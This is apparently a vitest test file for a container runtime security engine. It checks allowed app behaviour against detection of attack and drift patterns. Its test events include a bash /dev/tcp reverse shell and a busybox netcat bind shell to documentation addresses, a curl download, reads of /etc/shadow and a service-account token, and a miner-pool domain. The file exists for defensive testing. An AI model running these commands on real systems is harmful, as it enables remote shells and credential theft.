/**
 * The engine on the bundled example's profile (test/golden/shop): the application's own behaviour
 * is allowed, each named by its rule and declaration; each attack and drift pattern of the
 * knowledge base is recognised, classified and explained; learning takes only what fits intent.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ContainerRef, RuntimeEvent } from '../../model/events.js';
import { parseCharter } from '../../profile/serialize.js';
import { addressBookFromHosts } from '../address-book.js';
import { loadAttackPatterns } from '../../knowledge/attack-patterns.js';
import { RuntimeEngine, type EngineOptions } from './engine.js';

const PROFILE = join(import.meta.dirname, '../../../test/golden/shop/shop.charter.json');
const charter = parseCharter(readFileSync(PROFILE, 'utf8'), PROFILE);
const HOSTS = ['10.89.0.2 api shop-api-1', '10.89.0.3 db', '10.89.0.4 cache', '10.89.0.5 web', '10.89.0.6 worker'].join('\n');
const book = addressBookFromHosts(HOSTS, charter).book;

const T0 = Date.parse('2026-12-04T10:00:00Z');
let tick = 0;
const api: ContainerRef = { id: 'a1b2c3d4e5f6a1b2', name: 'shop-api-1', image: 'shop/api:1.0' };
const db: ContainerRef = { id: 'dbdbdbdbdbdb', name: 'db', pod: 'db-0', namespace: 'default' };

function ev(container: ContainerRef, e: Record<string, unknown>): RuntimeEvent {
  const { process, ...rest } = e;
  return {
    time: new Date(T0 + tick++ * 1000).toISOString(),
    container,
    process: { pid: 7, ...(process as object) },
    ...rest,
  } as RuntimeEvent;
}

function engine(opts: EngineOptions = {}): RuntimeEngine {
  return new RuntimeEngine(charter, { addressBook: book, ...opts });
}

function verdict(e: RuntimeEvent, eng = engine()) {
  const out = eng.judge(e, 1);
  if (!('verdict' in out)) throw new Error(`unmatched: ${JSON.stringify(out.unmatched)}`);
  return out.verdict;
}

describe('the application as declared is allowed, each event by its rule', () => {
  const cases: [string, RuntimeEvent, string, string][] = [
    [
      'tini, the entrypoint',
      ev(api, { kind: 'exec', process: { path: '/usr/bin/tini', argv: ['tini', '--', 'node', 'server.js'] } }),
      'process',
      'api/Dockerfile',
    ],
    [
      'node by name (the charter has no path for it)',
      ev(api, { kind: 'exec', process: { path: '/usr/local/bin/node', argv: ['node', 'server.js'] } }),
      'process',
      '',
    ],
    ['listening on 8080', ev(api, { kind: 'listen', protocol: 'tcp', local: { address: '0.0.0.0', port: 8080 } }), 'listen', ''],
    ['the database on 5432', ev(api, { kind: 'connect', protocol: 'tcp', remote: { address: '10.89.0.3', port: 5432 } }), 'egress', ''],
    [
      'the cache, named by DNS',
      ev(api, {
        kind: 'connect',
        protocol: 'tcp',
        remote: { address: '10.89.9.9', port: 6379 },
        dnsName: 'cache.default.svc.cluster.local',
      }),
      'egress',
      '',
    ],
    ['DNS', ev(api, { kind: 'send', protocol: 'udp', remote: { address: '10.89.0.1', port: 53 } }), 'egress', ''],
    ['an upload', ev(api, { kind: 'open', path: '/app/uploads/a.png', write: true, create: true }), 'writable', ''],
    ['a read', ev(api, { kind: 'open', path: '/app/server.js', write: false }), 'runtime', ''],
    ['loopback', ev(api, { kind: 'connect', protocol: 'tcp', remote: { address: '127.0.0.1', port: 9229 } }), 'runtime', ''],
    [
      'web calling the api',
      ev(api, {
        kind: 'accept',
        protocol: 'tcp',
        local: { address: '10.89.0.2', port: 8080 },
        remote: { address: '10.89.0.5', port: 40000 },
      }),
      'ingress',
      '',
    ],
    ['a process ending', ev(api, { kind: 'exit', code: 0, process: { path: '/usr/bin/tini' } }), 'runtime', ''],
    ['postgres writing its data', ev(db, { kind: 'open', path: '/var/lib/postgresql/data/base/1/1259', write: true }), 'writable', ''],
  ];
  it.each(cases)('%s', (_, e, kind, artifact) => {
    const v = verdict(e);
    expect(v.deviation, JSON.stringify(v.deviation)).toBeUndefined();
    expect(v.action).toBe('allow');
    expect(v.allowed?.kind).toBe(kind);
    if (kind !== 'runtime') expect(v.allowed!.sources.length).toBeGreaterThan(0);
    if (artifact !== '') expect(v.allowed!.sources.map((s) => s.artifact)).toContain(artifact);
  });
});

describe('attacks and drift: every pattern is recognised, classified and explained', () => {
  const internal = (n: number): RuntimeEvent =>
    ev(api, { kind: 'connect', protocol: 'tcp', remote: { address: `10.89.1.${n}`, port: 22 } });
  const cases: [string, RuntimeEvent | RuntimeEvent[], string, 'attack' | 'drift'][] = [
    ['shell-in-service', ev(api, { kind: 'exec', process: { path: '/bin/sh', argv: ['sh', '-c', 'id'] } }), 'shell-in-service', 'attack'],
    [
      'reverse shell',
      ev(api, { kind: 'exec', process: { path: '/bin/bash', argv: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] } }),
      'reverse-shell',
      'attack',
    ],
    [
      'a shell connecting out',
      ev(api, { kind: 'connect', protocol: 'tcp', remote: { address: '203.0.113.9', port: 4444 }, process: { path: '/bin/bash' } }),
      'shell-network-connection',
      'attack',
    ],
    ['network tool', ev(api, { kind: 'exec', process: { path: '/usr/bin/nc', argv: ['nc', '10.0.0.1', '80'] } }), 'network-tool', 'attack'],
    [
      'file transfer',
      ev(api, { kind: 'exec', process: { path: '/usr/bin/curl', argv: ['curl', '-O', 'http://203.0.113.9/x'] } }),
      'ingress-tool-transfer',
      'attack',
    ],
    ['dropped binary', ev(api, { kind: 'exec', process: { path: '/tmp/kworker', origin: 'written' } }), 'dropped-binary', 'drift'],
    ['memfd', ev(api, { kind: 'exec', process: { path: '/memfd:x (deleted)', origin: 'memory' } }), 'fileless-memfd', 'attack'],
    ['/dev/shm', ev(api, { kind: 'exec', process: { path: '/dev/shm/x' } }), 'exec-from-shm', 'attack'],
    [
      'miner port',
      ev(api, { kind: 'connect', protocol: 'tcp', remote: { address: '198.51.100.7', port: 3333 } }),
      'miner-pool-port',
      'attack',
    ],
    [
      'miner domain',
      ev(api, { kind: 'connect', protocol: 'tcp', remote: { address: '198.51.100.7', port: 443 }, dnsName: 'pool.supportxmr.com' }),
      'miner-pool-domain',
      'attack',
    ],
    ['setuid root', ev(api, { kind: 'privilege', op: 'setuid', from: 1000, to: 0, process: { uid: 1000 } }), 'setuid-root', 'attack'],
    ['setuid bit', ev(api, { kind: 'chmod', path: '/tmp/x', mode: 0o4755 }), 'setuid-bit', 'attack'],
    [
      'setuid bit, as a chmod the seccomp profile refused',
      ev(api, { kind: 'syscall', name: 'chmod', denied: true }),
      'setuid-bit',
      'attack',
    ],
    ['/etc/shadow', ev(api, { kind: 'open', path: '/etc/shadow', write: false }), 'credential-files', 'attack'],
    [
      'service account token',
      ev(api, { kind: 'open', path: '/var/run/secrets/kubernetes.io/serviceaccount/token', write: false }),
      'service-account-token',
      'attack',
    ],
    ['ld.so.preload', ev(api, { kind: 'open', path: '/etc/ld.so.preload', write: true }), 'dynamic-linker-hijack', 'attack'],
    ['binary directory', ev(api, { kind: 'rename', path: '/tmp/x', to: '/usr/local/bin/node' }), 'binary-directory-write', 'drift'],
    [
      'package manager',
      ev(api, { kind: 'exec', process: { path: '/usr/bin/apt-get', argv: ['apt-get', 'install', 'nmap'] } }),
      'package-manager',
      'drift',
    ],
    ['ptrace', ev(api, { kind: 'syscall', name: 'ptrace', target: '1' }), 'ptrace', 'attack'],
    ['mount', ev(api, { kind: 'syscall', name: 'mount' }), 'container-escape', 'attack'],
    ['kernel module', ev(api, { kind: 'syscall', name: 'init_module' }), 'kernel-module', 'attack'],
    ['raw socket', ev(api, { kind: 'send', protocol: 'raw', remote: { address: '10.89.0.3' } }), 'raw-socket', 'attack'],
    ['capability', ev(api, { kind: 'privilege', op: 'capability', capability: 'CAP_SYS_ADMIN' }), 'privileged-capability', 'attack'],
    ['internal scan', Array.from({ length: 8 }, (_, i) => internal(i + 10)), 'internal-scan', 'attack'],
  ];
  it.each(cases)('%s', (_, events, id, classification) => {
    const eng = engine();
    const list = Array.isArray(events) ? events : [events];
    const verdicts = list.map((e) => verdict(e, eng));
    const v = verdicts[verdicts.length - 1]!;
    expect(v.action).toBe('block');
    expect(v.deviation?.patterns.map((p) => p.id)).toContain(id);
    expect(v.deviation?.classification).toBe(classification);
    expect(v.deviation?.patterns.find((p) => p.id === id)?.mitre.length).toBeGreaterThan(0);
    expect(v.deviation?.what.length).toBeGreaterThan(5);
    expect(v.deviation?.missing.length).toBeGreaterThan(5);
    // The sweep is a sweep only from its eighth address on.
    if (id === 'internal-scan') expect(verdicts[6]!.deviation?.patterns.map((p) => p.id)).not.toContain(id);
  });

  it('covers every pattern of the knowledge base', () => {
    const tested = new Set(cases.map((c) => c[2]));
    expect(
      loadAttackPatterns()
        .patterns.map((p) => p.id)
        .filter((id) => !tested.has(id)),
    ).toEqual([]);
  });
});

describe('seccomp refusals (the kernel sensor reads them from the audit records)', () => {
  it('a refused chmod the charter allows was asked for set-id bits: the profile refuses nothing else of it', () => {
    const v = verdict(ev(api, { kind: 'syscall', name: 'chmod', denied: true }));
    expect(v.deviation?.what).toMatch(/^tried to set a set-id bit \(chmod/);
    expect(v.deviation?.patterns.map((p) => p.id)).toEqual(['setuid-bit']);
  });

  it('a refused chmod the charter does not allow says only that it was tried (any mode is refused then)', () => {
    const v = verdict(ev(api, { kind: 'syscall', name: 'fchmodat', denied: true }));
    expect(v.deviation?.what).toBe('tried the system call fchmodat');
    expect(v.deviation?.patterns).toEqual([]);
  });

  it('a chmod made (not refused) is the charter’s, and no set-id change', () => {
    expect(verdict(ev(api, { kind: 'syscall', name: 'chmod' })).allowed?.kind).toBe('syscall');
  });

  it('the ENOSYS answers of the profile (clone3, io_uring) are the profile working, not a deviation', () => {
    for (const name of ['clone3', 'io_uring_setup']) {
      const v = verdict(ev(api, { kind: 'syscall', name, denied: true }));
      expect(v.action).toBe('allow');
      expect(v.allowed?.kind).toBe('runtime');
    }
  });
});

describe('deviations say what would allow them, at the declaring lines', () => {
  it('an undeclared peer: compose and Kubernetes hints naming the files and lines of the api container', () => {
    const v = verdict(ev(api, { kind: 'connect', protocol: 'tcp', remote: { address: '10.89.0.6', port: 9000 } }));
    expect(v.deviation).toMatchObject({ classification: 'undeclared', missing: 'no egress rule for worker' });
    expect(v.deviation!.wouldAllow.join('\n')).toMatch(/compose\.yaml:15/);
    expect(v.deviation!.wouldAllow.join('\n')).toMatch(/k8s\/shop\.yaml:\d+/);
  });
  it('a declared peer on another port says which port is declared', () => {
    const v = verdict(ev(api, { kind: 'connect', protocol: 'tcp', remote: { address: '10.89.0.3', port: 5433 } }));
    expect(v.deviation?.missing).toMatch(/declared on tcp\/5432, not tcp\/5433/);
  });
  it('an undeclared port to listen on points at EXPOSE in the Dockerfile', () => {
    const v = verdict(ev(api, { kind: 'listen', protocol: 'tcp', local: { address: '0.0.0.0', port: 9229 } }));
    expect(v.deviation!.wouldAllow).toContain('EXPOSE 9229 in api/Dockerfile:10');
  });
  it('a write outside the writable paths of a read-only root', () => {
    const v = verdict(ev(api, { kind: 'open', path: '/app/config.json', write: true }));
    expect(v.deviation?.missing).toMatch(/read-only/);
    expect(v.deviation?.classification).toBe('undeclared');
  });
});

describe('modes and intent-bounded learning', () => {
  it('monitor alerts, protect blocks, learn learns what fits and queues what contradicts', () => {
    const worker = ev(api, { kind: 'connect', protocol: 'tcp', remote: { address: '10.89.0.4', port: 6380 } });
    expect(verdict(worker, engine({ mode: 'monitor' })).action).toBe('alert');
    expect(verdict(worker, engine({ mode: 'protect' })).action).toBe('block');
    // cache listens on 6379, not 6380: a peer of the app, but not on a port it serves.
    expect(verdict(worker, engine({ mode: 'learn' })).action).toBe('review');
    const webCall = ev(api, { kind: 'connect', protocol: 'tcp', remote: { address: '10.89.0.5', port: 80 } });
    expect(verdict(webCall, engine({ mode: 'learn' })).action).toBe('learn');
    const shell = ev(api, { kind: 'exec', process: { path: '/bin/sh' } });
    expect(verdict(shell, engine({ mode: 'learn' })).action).toBe('review');
  });
  it("a program of the container's role, shipped by the image, fits its intent; the same name from elsewhere does not", () => {
    // The charter of a database whose role's helper (initdb) the static profile did not list.
    const trimmed = structuredClone(charter);
    const dbc = trimmed.containers.find((c) => c.name === 'db')!;
    dbc.processes = dbc.processes.filter((p) => p.path !== 'initdb');
    const eng = new RuntimeEngine(trimmed, { addressBook: book, mode: 'learn' });
    const fromImage = ev(db, { kind: 'exec', process: { path: '/usr/lib/postgresql/16/bin/initdb', origin: 'image' } });
    expect(verdict(fromImage, eng).action).toBe('learn');
    const written = ev(db, { kind: 'exec', process: { path: '/usr/lib/postgresql/16/bin/initdb', origin: 'written' } });
    expect(verdict(written, eng)).toMatchObject({ action: 'review', deviation: { classification: 'drift' } });
    const other = ev(db, { kind: 'exec', process: { path: '/usr/bin/perl', origin: 'image' } });
    expect(verdict(other, eng).action).toBe('review');
  });
  it('modes switch at run time, per container', () => {
    const eng = engine({ mode: 'learn' });
    eng.setMode('api', 'protect');
    expect(verdict(ev(api, { kind: 'exec', process: { path: '/bin/sh' } }), eng).action).toBe('block');
    expect(eng.modeOf('db')).toBe('learn');
  });
});

describe('container matching', () => {
  it('by compose name, pod of the workload, image, and explicit mapping; others unmatched', () => {
    const eng = engine({ containers: new Map([['f00d', 'worker']]) });
    const exec = (c: ContainerRef) => eng.judge(ev(c, { kind: 'exit' }), 1);
    const name = (c: ContainerRef) => {
      const o = exec(c);
      return 'verdict' in o ? o.verdict.container : undefined;
    };
    expect(name({ id: '1', name: 'shop_cache_1' })).toBe('cache');
    expect(name({ id: '2', name: 'postgres', pod: 'db-0', namespace: 'default' })).toBe('db');
    expect(name({ id: '3', image: 'docker.io/library/postgres:16-alpine' })).toBe('db');
    expect(name({ id: 'f00d' })).toBe('worker');
    expect(name({ id: '4', name: 'stranger', image: 'evil/miner:latest' })).toBeUndefined();
  });
});

describe('multi-call binaries: a process is its path, its content and the applet it runs as', () => {
  const sha = 'b'.repeat(64);
  const c = structuredClone(charter);
  const web = c.containers.find((x) => x.name === 'web')!;
  web.processes = [
    {
      path: '/bin/busybox',
      invokedAs: ['/bin/httpd'],
      applets: ['httpd'],
      sha256: sha,
      purpose: 'entrypoint',
      sources: [{ kind: 'image', artifact: 'example.com/team/web:1', path: '/bin/busybox', reason: 'CMD ["httpd", "-f"]' }],
    },
  ];
  const eng = new RuntimeEngine(c, { addressBook: book });
  const webRef: ContainerRef = { id: 'we6we6we6we6', name: 'web' };
  it('httpd through its link is allowed as the applet httpd', () => {
    const v = verdict(
      ev(webRef, { kind: 'exec', process: { path: '/bin/busybox', argv: ['httpd', '-f', '-p', '8080'], sha256: sha } }),
      eng,
    );
    expect(v.allowed).toMatchObject({ kind: 'process', rule: '/bin/busybox as httpd' });
  });
  it('the same file run as nc is a network tool, not the allowed program', () => {
    const v = verdict(
      ev(webRef, { kind: 'exec', process: { path: '/bin/busybox', argv: ['nc', '-lp', '4444', '-e', '/bin/sh'], sha256: sha } }),
      eng,
    );
    expect(v.deviation).toMatchObject({ classification: 'attack', missing: '/bin/busybox may run only as httpd' });
    expect(v.deviation!.patterns.map((p) => p.id)).toEqual(expect.arrayContaining(['network-tool', 'reverse-shell']));
  });
  it('`busybox sh` and a hard-linked copy at /bin/sh are not allowed either', () => {
    expect(
      verdict(
        ev(webRef, { kind: 'exec', process: { path: '/bin/busybox', argv: ['busybox', 'sh'], sha256: sha } }),
        eng,
      ).deviation?.patterns.map((p) => p.id),
    ).toContain('shell-in-service');
    const copy = verdict(ev(webRef, { kind: 'exec', process: { path: '/bin/sh', argv: ['sh'], sha256: sha } }), eng);
    expect(copy.deviation?.what).toBe('a copy of the allowed /bin/busybox run as /bin/sh');
  });
});
